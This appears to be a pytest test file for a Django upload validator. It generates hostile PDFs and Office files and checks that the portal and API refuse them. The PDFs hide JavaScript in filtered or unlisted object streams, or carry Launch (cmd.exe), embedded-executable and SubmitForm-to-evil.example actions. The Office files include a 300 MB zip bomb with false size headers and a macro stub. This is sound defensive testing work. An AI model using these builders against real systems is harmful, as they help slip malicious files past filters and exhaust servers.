"""Evidence files judged as a program opening them would read them, not by a byte pattern.

Hostile PDFs hide their JavaScript in object streams behind ASCIIHex, ASCII85 or chained
filters, or use /AA, /Launch, embedded files, rich media, XFA or form submission; hostile Word and
Excel files lie in their headers about how large their parts are, or carry macros; damaged files
cannot be parsed at all. Each is refused through the portal and the API with a clear reason and
nothing stored. Clean files (a PDF the product itself renders, Word and Excel files written by
their libraries) still pass, and every download is named after the type the file really is.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from barriers import services
from barriers.accounts.roles import TRIAGE_OFFICER
from barriers.exports import RENDERERS
from barriers.models import Document, Report
from devtools.exports import sample
from tests import factories
from tests.api_factories import client_for as api_client_for
from tests.portal_helpers import client_for as portal_client_for
from tests.portal_helpers import exporter as portal_exporter
from tests.portal_helpers import report_form_data

pytestmark = pytest.mark.django_db

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


# ---------------------------------------------------------------------------------------------
# PDFs built in code: objects, an object stream behind any filter chain, an xref stream
# ---------------------------------------------------------------------------------------------

ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "/ASCIIHexDecode": lambda data: data.hex().encode() + b">",
    "/ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
    "/FlateDecode": zlib.compress,
}
JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert('owned')) >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_file(
    top: dict[int, bytes],
    packed: dict[int, bytes] | None = None,
    *,
    filters: tuple[str, ...] = ("/FlateDecode",),
    listed: bool = True,
    trailer_extra: bytes = b"",
) -> bytes:
    """A PDF 1.7 file: `top` objects written plainly, `packed` ones in one object stream encoded
    through `filters` (decoded in the order given), and a cross-reference stream that lists
    them all (or, with listed=False, leaves the object stream out, hidden)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in top.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    in_stream: dict[int, tuple[int, int]] = {}
    last = max([*top, *(packed or {})])
    if packed:
        stream_number = last + 1
        last = stream_number
        bodies, pairs, position = b"", [], 0
        for index, (number, body) in enumerate(packed.items()):
            pairs.append(b"%d %d" % (number, position))
            bodies += body + b"\n"
            position = len(bodies)
            in_stream[number] = (stream_number, index)
        header = b" ".join(pairs) + b"\n"
        encoded = header + bodies
        for name in reversed(filters):
            encoded = ENCODERS[name](encoded)
        filter_names = b"[" + b" ".join(name.encode() for name in filters) + b"]"
        offsets[stream_number] = len(out)
        out += (
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\nstream\n"
            % (stream_number, len(packed), len(header), filter_names, len(encoded))
            + encoded
            + b"\nendstream\nendobj\n"
        )
        if not listed:
            del offsets[stream_number]
            for number in packed:
                del in_stream[number]
    xref_number = last + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in in_stream:
            rows += struct.pack(">BIH", 2, *in_stream[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s/Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, trailer_extra, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def open_action_in_object_stream(*filters: str) -> Callable[[], bytes]:
    def build() -> bytes:
        return pdf_file(
            {1: catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE},
            {4: JS_ACTION},
            filters=filters,
        )

    return build


def packed_pdf(
    catalog_extra: bytes, packed: dict[int, bytes], *filters: str
) -> Callable[[], bytes]:
    def build() -> bytes:
        return pdf_file(
            {1: catalog(catalog_extra), 2: PAGES, 3: PAGE},
            packed,
            filters=filters or ("/ASCIIHexDecode",),
        )

    return build


def hidden_object_stream() -> bytes:
    # The object stream is left out of the cross-reference: found all the same.
    return pdf_file(
        {1: catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE},
        {4: JS_ACTION},
        filters=("/ASCII85Decode",),
        listed=False,
    )


def escaped_names_in_hex_stream() -> bytes:
    return pdf_file(
        {1: catalog(b"/OpenAction 4 0 R"), 2: PAGES, 3: PAGE},
        {4: b"<< /S /J#61va#53cript /J#53 <6170702e616c657274283129> >>"},
        filters=("/ASCIIHexDecode",),
    )


def encrypted_pdf() -> bytes:
    encrypt = (
        b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -3904 >> "
        b"/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] "
        % (b"ab" * 32, b"cd" * 32)
    )
    return pdf_file({1: catalog(), 2: PAGES, 3: PAGE}, trailer_extra=encrypt)


def clean_pdf_with_object_stream() -> bytes:
    # A plain /OpenAction that only opens page 1, and objects in a chained-filter stream.
    return pdf_file(
        {1: catalog(b"/OpenAction [3 0 R /Fit] /Outlines 4 0 R"), 2: PAGES, 3: PAGE},
        {4: b"<< /Type /Outlines /Count 0 >>"},
        filters=("/ASCII85Decode", "/FlateDecode"),
    )


ACTIVE = "contains scripts, actions or embedded files"
UNREADABLE = "could not be read"

REFUSED_PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
    "OpenAction JS in an ASCIIHex object stream": (
        open_action_in_object_stream("/ASCIIHexDecode"),
        ACTIVE,
    ),
    "OpenAction JS in an ASCII85 object stream": (
        open_action_in_object_stream("/ASCII85Decode"),
        ACTIVE,
    ),
    "OpenAction JS behind ASCII85 then Flate": (
        open_action_in_object_stream("/ASCII85Decode", "/FlateDecode"),
        ACTIVE,
    ),
    "OpenAction JS behind ASCIIHex, ASCII85 and Flate": (
        open_action_in_object_stream("/ASCIIHexDecode", "/ASCII85Decode", "/FlateDecode"),
        ACTIVE,
    ),
    "#-escaped names in an ASCIIHex object stream": (escaped_names_in_hex_stream, ACTIVE),
    "an object stream the cross-reference hides": (hidden_object_stream, ACTIVE),
    "page /AA in an object stream": (
        lambda: pdf_file(
            {1: catalog(), 2: PAGES},
            {
                3: b"<< /Type /Page /Parent 2 0 R /AA << /O 4 0 R >> >>",
                4: b"<< /S /URI /URI (x) >>",
            },
            filters=("/ASCII85Decode",),
        ),
        ACTIVE,
    ),
    "/Launch action in an object stream": (
        packed_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /Launch /F (cmd.exe) >>"}, "/ASCII85Decode"),
        ACTIVE,
    ),
    "/EmbeddedFiles name tree": (
        packed_pdf(
            b"/Names 4 0 R",
            {
                4: b"<< /EmbeddedFiles 5 0 R >>",
                5: b"<< /Names [(evil.exe) 6 0 R] >>",
                6: b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
            },
        ),
        ACTIVE,
    ),
    "an embedded file stream without its /Type": (
        lambda: pdf_file(
            {
                1: catalog(),
                2: PAGES,
                3: PAGE,
                4: b"<< /Subtype /application#2Fx-msdownload /Length 2 >>\nstream\nMZ\nendstream",
            },
            {5: b"<< /Type /Filespec /F (a.exe) /E#46 << /F 4 0 R >> >>"},
            filters=("/ASCIIHexDecode",),
        ),
        ACTIVE,
    ),
    "/RichMedia annotation": (
        packed_pdf(b"", {4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}),
        ACTIVE,
    ),
    "XFA form": (
        packed_pdf(b"/AcroForm 4 0 R", {4: b"<< /Fields [] /XFA 5 0 R >>", 5: b"[]"}),
        ACTIVE,
    ),
    "SubmitForm action": (
        packed_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /SubmitForm /F (http://evil.example) >>"}),
        ACTIVE,
    ),
    "garbage after the header": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40, UNREADABLE),
    "a truncated file": (lambda: clean_pdf_with_object_stream()[:300], UNREADABLE),
    "an object stream whose filter cannot be undone": (
        lambda: clean_pdf_with_object_stream().replace(b"/ASCII85Decode", b"/ASCIIHexDecode"),
        UNREADABLE,
    ),
    "password-protected": (encrypted_pdf, "password-protected"),
}


# ---------------------------------------------------------------------------------------------
# ZIP archives built byte by byte, so that their headers can lie
# ---------------------------------------------------------------------------------------------

CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="x"><Default Extension="xml"/></Types>'


def raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP of (name, deflated bytes, declared size, declared CRC) parts, stored as given."""
    out, directory = bytearray(), bytearray()
    for name, deflated, size, crc in entries:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            size,
            len(encoded),
            0,
        )
        out += encoded + deflated
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(deflated),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += encoded
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def honest(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    return name, deflate(data), len(data), zlib.crc32(data)


def deflated_zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    chunk = bytes(1024 * 1024)
    return b"".join(packer.compress(chunk) for _ in range(megabytes)) + packer.flush()


def lying_docx_bomb() -> bytes:
    # 300 MB of zeros in word/document.xml, declared as a 1 kB part.
    return raw_zip(
        [
            honest("[Content_Types].xml", CONTENT_TYPES),
            ("word/document.xml", deflated_zeros(300), 1024, 0),
        ]
    )


def lying_xlsx_sizes() -> bytes:
    # A part that compresses only 2 to 1 (no ratio alarm), 3 MB, declared as 1 kB.
    text = b"".join(
        zlib.crc32(i.to_bytes(4, "big")).to_bytes(4, "big").hex().encode() for i in range(400_000)
    )
    return raw_zip(
        [
            honest("[Content_Types].xml", CONTENT_TYPES),
            honest("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", deflate(text), 1024, zlib.crc32(text[:1024])),
        ]
    )


def docx_with_macros() -> bytes:
    return raw_zip(
        [
            honest("[Content_Types].xml", CONTENT_TYPES),
            honest("word/document.xml", b"<w:document/>"),
            honest("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"),
        ]
    )


def corrupt_docx() -> bytes:
    good = raw_zip(
        [
            honest("[Content_Types].xml", CONTENT_TYPES),
            honest("word/document.xml", b"<w:document>" * 50),
        ]
    )
    # The deflated bytes of the document part overwritten: the part cannot be inflated.
    start = good.index(b"word/document.xml") + len(b"word/document.xml")
    return good[:start] + b"\xff" * 20 + good[start + 20 :]


REFUSED_OFFICE: dict[str, tuple[Callable[[], bytes], str]] = {
    "DOCX: 300 MB part declared as 1 kB": (lying_docx_bomb, "zip bomb"),
    "XLSX: part larger than its header says": (lying_xlsx_sizes, "damaged"),
    "DOCX with macros": (docx_with_macros, "macros"),
    "DOCX whose part cannot be inflated": (corrupt_docx, "damaged"),
}

REFUSED = {**REFUSED_PDFS, **REFUSED_OFFICE}
CASES = [pytest.param(name, *case, id=name) for name, case in REFUSED.items()]


def _file_name(case: str) -> str:
    return "evidence.pdf" if case in REFUSED_PDFS else "evidence.docx"


@pytest.mark.parametrize(("case", "content", "reason"), CASES)
def test_the_api_refuses_the_hostile_file_and_stores_nothing(
    exporter, tmp_path: Path, case: str, content: Callable[[], bytes], reason: str
) -> None:
    report = factories.report_file(actor=exporter)
    upload = SimpleUploadedFile(_file_name(case), content(), "application/octet-stream")

    response = api_client_for(exporter).post(
        f"/api/v1/reports/{report.reference}/documents/", {"file": upload}, format="multipart"
    )

    assert response.status_code == 400, response.content
    assert reason in response.json()["file"][0]
    assert Document.objects.count() == 0
    assert stored_files(tmp_path) == []


@pytest.mark.parametrize(("case", "content", "reason"), CASES)
def test_the_portal_refuses_the_hostile_file_and_stores_nothing(
    tmp_path: Path, case: str, content: Callable[[], bytes], reason: str
) -> None:
    page = portal_client_for(portal_exporter())
    upload = SimpleUploadedFile(_file_name(case), content(), "application/octet-stream")

    response = page.post("/reports/new/", {**report_form_data(), "evidence": upload})

    assert response.status_code == 200
    assert reason in response.content.decode().replace("&#x27;", "'")
    assert Report.objects.count() == 0 and Document.objects.count() == 0
    assert stored_files(tmp_path) == []


# ---------------------------------------------------------------------------------------------
# Clean files still pass
# ---------------------------------------------------------------------------------------------


def product_pdf() -> bytes:
    return RENDERERS["pdf"].render(sample.sample_agenda(3, reserve=1, resolved=1))


def word_file() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("Letter from FSVPS about the plant listing. " * 200)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def excel_file() -> bytes:
    book = openpyxl.Workbook()
    for row in range(2000):
        book.active.append([f"consignment {row}", row * 100, -row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


CLEAN = {
    "a PDF the product renders": ("agenda.pdf", product_pdf, "application/pdf"),
    "a PDF with a chained-filter object stream": (
        "listing.pdf",
        clean_pdf_with_object_stream,
        "application/pdf",
    ),
    "a Word file": ("letter.docx", word_file, DOCX),
    "an Excel file": ("consignments.xlsx", excel_file, XLSX),
}


@pytest.mark.parametrize(("name", "content", "content_type"), list(CLEAN.values()), ids=list(CLEAN))
def test_clean_files_still_pass_both_doors(
    exporter, name: str, content: Callable[[], bytes], content_type: str
) -> None:
    data = content()
    report = factories.report_file(actor=exporter)
    response = api_client_for(exporter).post(
        f"/api/v1/reports/{report.reference}/documents/",
        {"file": SimpleUploadedFile(name, data, content_type)},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    page = portal_client_for(portal_exporter())
    filed = page.post(
        "/reports/new/",
        {**report_form_data(), "evidence": SimpleUploadedFile(name, data, content_type)},
    )
    assert filed.status_code == 302, filed.content.decode()[:2000]
    assert list(Document.objects.values_list("content_type", flat=True)) == [content_type] * 2


# ---------------------------------------------------------------------------------------------
# Download names follow the detected type
# ---------------------------------------------------------------------------------------------


def png_bytes() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(buffer, format="PNG")
    return buffer.getvalue()


def _downloads(document: Document, owner) -> list[str]:
    officer = factories.OfficialFactory()
    officer.groups.add(Group.objects.get(name=TRIAGE_OFFICER))
    admin_client = Client()
    admin_client.force_login(officer)
    reference = document.report.reference
    responses = [
        portal_client_for(owner).get(
            reverse("barriers:document_download", args=[reference, document.pk])
        ),
        api_client_for(owner).get(f"/api/v1/reports/{reference}/documents/{document.pk}/"),
        admin_client.get(reverse("admin:barriers_document_download", args=[document.pk])),
    ]
    assert [r.status_code for r in responses] == [200, 200, 200]
    return [r["Content-Disposition"] for r in responses]


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("img.html", "img.png"),
        ("photo.svg", "photo.png"),
        ("scan", "scan.png"),
        ("evil.png.exe", "evil.png.png"),
        (".html", "html.png"),
        ("picture.PNG", "picture.PNG"),
    ],
)
def test_an_upload_downloads_under_the_extension_of_its_detected_type(
    given: str, expected: str
) -> None:
    owner = portal_exporter()
    report = factories.report_file(actor=owner)

    response = api_client_for(owner).post(
        f"/api/v1/reports/{report.reference}/documents/",
        {"file": SimpleUploadedFile(given, png_bytes(), "text/html")},
        format="multipart",
    )

    assert response.status_code == 201, response.content
    assert response.json()["name"] == expected
    document = Document.objects.get()
    assert document.original_name == expected and document.content_type == "image/png"
    for disposition in _downloads(document, owner):
        assert disposition == f'attachment; filename="{expected}"'


def test_the_portal_stores_the_name_of_the_detected_type() -> None:
    owner = portal_exporter()
    page = portal_client_for(owner)

    page.post(
        "/reports/new/",
        {
            **report_form_data(),
            "evidence": SimpleUploadedFile("img.html", png_bytes(), "text/html"),
        },
    )

    assert Document.objects.get().original_name == "img.png"


def test_a_file_stored_under_its_uploaders_name_downloads_under_the_detected_type() -> None:
    # Rows from before the rule: the stored name is corrected at every door.
    owner = portal_exporter()
    report = factories.report_file(actor=owner)
    document = services.document_attach(
        report=report, actor=owner, upload=SimpleUploadedFile("x.png", png_bytes()), name="x.png"
    )
    Document.objects.filter(pk=document.pk).update(original_name="img.html")
    document.refresh_from_db()

    for disposition in _downloads(document, owner):
        assert disposition == 'attachment; filename="img.png"'


def test_a_zip_written_by_zipfile_is_read_the_same_way() -> None:
    # The byte-built archives above follow the format: zipfile reads the honest one back.
    data = raw_zip([honest("[Content_Types].xml", CONTENT_TYPES)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.read("[Content_Types].xml") == CONTENT_TYPES
